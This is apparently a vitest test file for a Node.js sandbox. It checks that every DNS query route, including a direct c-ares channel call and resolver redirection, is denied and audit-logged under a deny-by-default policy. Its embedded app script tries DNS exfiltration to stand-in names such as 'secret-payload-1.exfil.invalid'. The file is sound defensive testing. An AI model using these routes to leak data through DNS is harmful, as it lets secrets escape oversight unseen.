// DNS queries are a way out for data (the name itself is the payload). Under a production policy, in the
// three launch modes, every query route for a name the policy does not allow (`dns.lookup`,
// `dns.promises.lookup`, `lookupService`, `reverse`, `resolve*` on the default resolver, on Resolver
// objects and on dns.promises, the c-ares channel method reached directly) is refused with the denial
// in the audit log, and a recording DNS server on 127.0.0.1 never sees the name. Pointing a resolver at
// a server the policy does not allow is refused too. Positive controls: an allowed name is queried (the
// recording server sees it) and an address literal resolves without a query.
import { createSocket, type Socket } from 'node:dgram';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createProject, governedRun, LAUNCH_MODES, removeProject, type GovernedRunResult } from '../helpers/governed-run';
import { printedResults } from '../helpers/route-results';

const APP = String.raw`
const dns = require('node:dns');
const [port, deniedPort] = process.argv.slice(2);
const server = '127.0.0.1:' + port;
const results = {};
const outcome = (e, value) => (e ? { outcome: 'error', code: e.code } : { outcome: 'ok', value });
function viaCallback(fn) {
  return new Promise((resolve) => {
    try { fn((e, value) => resolve(outcome(e, value))); } catch (e) { resolve({ outcome: 'thrown', code: e.code }); }
  });
}
async function viaPromise(fn) {
  try { return outcome(null, await fn()); } catch (e) { return { outcome: 'rejected', code: e.code }; }
}
(async () => {
  const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
  resolver.setServers([server]);
  const promiseResolver = new dns.promises.Resolver({ timeout: 300, tries: 1 });
  promiseResolver.setServers([server]);
  dns.setServers([server]);
  results['dns.lookup'] = await viaCallback((cb) => dns.lookup('secret-payload-1.exfil.invalid', cb));
  results['dns.promises.lookup'] = await viaPromise(() => dns.promises.lookup('secret-payload-2.exfil.invalid'));
  results['dns.lookupService'] = await viaCallback((cb) => dns.lookupService('10.9.8.7', 22, cb));
  results['dns.resolve4'] = await viaCallback((cb) => dns.resolve4('secret-payload-3.exfil.invalid', cb));
  results['dns.resolve (TXT)'] = await viaCallback((cb) => dns.resolve('secret-payload-4.exfil.invalid', 'TXT', cb));
  results['dns.reverse'] = await viaCallback((cb) => dns.reverse('10.9.8.7', cb));
  results['dns.promises.resolveTxt'] = await viaPromise(() => dns.promises.resolveTxt('secret-payload-5.exfil.invalid'));
  results['Resolver#resolve4'] = await viaCallback((cb) => resolver.resolve4('secret-payload-6.exfil.invalid', cb));
  results['Resolver#resolveAny'] = await viaCallback((cb) => resolver.resolveAny('secret-payload-7.exfil.invalid', cb));
  results['promises.Resolver#resolveMx'] = await viaPromise(() => promiseResolver.resolveMx('secret-payload-8.exfil.invalid'));
  results['c-ares channel queryA called directly'] = await viaCallback(() => Object.getPrototypeOf(resolver._handle).queryA.call(resolver._handle, {}, 'secret-payload-9.exfil.invalid'));
  results['Resolver#setServers to another server'] = await viaCallback((cb) => cb(null, new dns.Resolver().setServers(['127.0.0.1:' + deniedPort])));
  results['dns.promises.setServers to another server'] = await viaCallback((cb) => cb(null, dns.promises.setServers(['127.0.0.1:' + deniedPort])));
  results['allowed name'] = await viaCallback((cb) => resolver.resolve4('allowed-name.example', cb));
  results['address literal'] = await viaCallback((cb) => dns.lookup('127.0.0.1', cb));
  process.stdout.write('RESULTS ' + JSON.stringify(results) + '\n');
})();
`;

const DENIED: Record<string, string> = {
  'dns.lookup': 'dns:secret-payload-1.exfil.invalid',
  'dns.promises.lookup': 'dns:secret-payload-2.exfil.invalid',
  'dns.lookupService': 'dns:10.9.8.7',
  'dns.resolve4': 'dns:secret-payload-3.exfil.invalid',
  'dns.resolve (TXT)': 'dns:secret-payload-4.exfil.invalid',
  'dns.reverse': 'dns:10.9.8.7',
  'dns.promises.resolveTxt': 'dns:secret-payload-5.exfil.invalid',
  'Resolver#resolve4': 'dns:secret-payload-6.exfil.invalid',
  'Resolver#resolveAny': 'dns:secret-payload-7.exfil.invalid',
  'promises.Resolver#resolveMx': 'dns:secret-payload-8.exfil.invalid',
  'c-ares channel queryA called directly': 'dns:secret-payload-9.exfil.invalid',
};
const DENIED_SERVERS = ['Resolver#setServers to another server', 'dns.promises.setServers to another server'];

class Recorder {
  readonly packets = new Map<string, Buffer[]>();
  readonly #sockets: Socket[] = [];

  async listen(name: string): Promise<number> {
    const socket = createSocket('udp4');
    this.#sockets.push(socket);
    this.packets.set(name, []);
    socket.on('message', (message) => this.packets.get(name)!.push(message));
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    return socket.address().port;
  }

  /** Lets datagrams queued while the test process was blocked in spawnSync be delivered. */
  drain(): Promise<void> {
    return new Promise((resolve) => setTimeout(resolve, 200));
  }

  close(): void {
    for (const socket of this.#sockets) socket.close();
  }
}

describe.each(LAUNCH_MODES)('DNS queries under a production policy (%s)', (mode) => {
  const recorder = new Recorder();
  let run: GovernedRunResult;
  let results: Record<string, { outcome: string; code?: string; value?: unknown }>;
  let port = 0;
  let deniedPort = 0;

  beforeAll(async () => {
    port = await recorder.listen('resolver');
    deniedPort = await recorder.listen('denied');
    const dir = createProject({ files: { 'app.cjs': APP } });
    run = governedRun({
      dir,
      mode,
      entry: 'app.cjs',
      args: [String(port), String(deniedPort)],
      policy: {
        level: 'production',
        default: 'deny',
        rules: [
          { id: 'read', action: ['file_read', 'module_load'], target: '**', effect: 'allow' },
          { id: 'resolver', action: 'net_connect', target: [`127.0.0.1:${port}`, 'dns:allowed-name.example'], effect: 'allow' },
        ],
      },
    });
    results = printedResults(run);
    await recorder.drain();
  });

  afterAll(() => {
    recorder.close();
    removeProject(run.dir);
  });

  it('ran to completion', () => {
    expect(run.status, run.stderr).toBe(0);
    expect(Object.keys(results)).toHaveLength(Object.keys(DENIED).length + DENIED_SERVERS.length + 2);
  });

  it.each(Object.keys(DENIED))('%s is refused and the denial is in the audit log', (label) => {
    expect(['error', 'thrown', 'rejected']).toContain(results[label].outcome);
    expect(results[label].code, JSON.stringify(results[label])).toBe('EGOVDENIED');
    expect(run.entries().some((e) => e.action === 'net_connect' && e.decision === 'deny' && e.target === DENIED[label])).toBe(true);
  });

  it.each(DENIED_SERVERS)('%s is refused', (label) => {
    expect(results[label]).toEqual({ outcome: 'thrown', code: 'EGOVDENIED' });
    expect(run.entries().some((e) => e.action === 'net_connect' && e.decision === 'deny' && e.target === `127.0.0.1:${deniedPort}`)).toBe(true);
  });

  it('the recording servers never saw a denied name; the denied server saw nothing', () => {
    const seen = recorder.packets.get('resolver')!.map((packet) => packet.toString('latin1'));
    expect(seen.filter((packet) => packet.includes('secret-payload'))).toEqual([]);
    expect(recorder.packets.get('denied')).toEqual([]);
  });

  it('an allowed name is queried, an address literal resolves without a query (positive controls)', () => {
    expect(results['allowed name'].code).not.toBe('EGOVDENIED');
    const seen = recorder.packets.get('resolver')!.map((packet) => packet.toString('latin1'));
    expect(seen.some((packet) => packet.includes('allowed-name'))).toBe(true);
    expect(results['address literal']).toEqual({ outcome: 'ok', value: '127.0.0.1' });
  });
});
